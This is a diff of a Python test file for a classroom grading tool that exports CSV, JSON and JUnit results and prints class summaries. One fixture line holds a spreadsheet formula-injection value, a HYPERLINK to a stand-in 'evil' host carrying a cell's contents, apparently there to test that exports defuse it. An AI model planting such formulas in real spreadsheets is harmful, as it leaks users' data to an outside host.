@@ -11,14 +11,13 @@ import pytest
 from junitparser import Error, Failure, JUnitXml
 
 from dojo.report.html import verdict
-from dojo.report.terminal import console
-from dojo.school.class_text import Change, class_changes, class_summary
+from dojo.school.class_text import class_changes, class_summary
 from dojo.school.formats import inert, write_csv, write_json, write_junit
 from dojo.school.gradescope import gradescope
 from dojo.school.single import as_github
 from dojo.school.submission import MISSING, Submission
-from dojo.school.summary import summarize
-from tests.project.handing_in import COURSE, result, row, submission
+from dojo.school.summary import Summary
+from tests.project.handing_in import COURSE, result, row, shown, submission
 
 KATAS = [kata.id for kata in COURSE.katas]
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
@@ -35,7 +34,7 @@ ROWS = [
 def table(tmp_path):
     """Return the lines of the CSV, as a spreadsheet reads them, and its bytes."""
     path = tmp_path / "class.csv"
-    write_csv(iter(ROWS), path, KATAS)
+    write_csv(iter(ROWS), path)
     with path.open(encoding="utf-8-sig", newline="") as file:
         return list(csv.DictReader(file)), path.read_bytes()
 
@@ -191,17 +190,9 @@ def test_github_classroom_gets_what_its_reporter_adds_up():
     assert json.loads(base64.b64decode(as_github(ROWS[3])))["status"] == "error"
 
 
-def shown(report):
-    stream = io.StringIO()
-    terminal = console()
-    terminal.file, terminal.width = stream, 100
-    terminal.print(report)
-    return stream.getvalue()
-
-
 def test_the_summary_reads_as_sentences_and_lists():
     """Counts, the middle, each kata, the mistakes and the hard tests."""
-    text = shown(class_summary(summarize(ROWS)))
+    text = shown(class_summary(Summary(ROWS)))
     assert "4 students: 2 some points, 1 no points, 1 nothing submitted." in text
     assert "of 100 points." in text
     assert f"    1  {FORMULA}" in text
@@ -211,15 +202,14 @@ def test_the_summary_reads_as_sentences_and_lists():
 
 def test_a_change_is_told_with_its_reason_and_its_tests():
     """One line for the student, one for each test; no change is a sentence, too."""
-    change = Change(
-        *("ada", "Ada L.", 50.0, 75.5, ("the submission has changed",)),
-        (("k01_sigmoid", "test_1", "failed", "passed"),),
-    )
-    assert shown(class_changes([change])) == (
-        "ada (Ada L.): 50 → 75.5, because the submission has changed.\n"
+    before = row(of=submission("ada", name="Ada L."), outcomes=("failed", "passed"))
+    after = row(of=submission("ada", b"new", name="Ada L."), outcomes=3 * ("passed",))
+    assert shown(class_changes([(before, after)])) == (
+        "ada (Ada L.): 7.14 → 14.29, because the submission has changed.\n"
         "    k01  test_1: failed → passed\n"
+        "    k01  test_3: no such test → passed\n"
     )
-    assert "has changed no score" in shown(class_changes([]))
+    assert "has changed no score" in shown(class_changes([(before, before)]))
 
 
 def test_a_file_that_cannot_be_used_is_told_once_in_a_notebook():
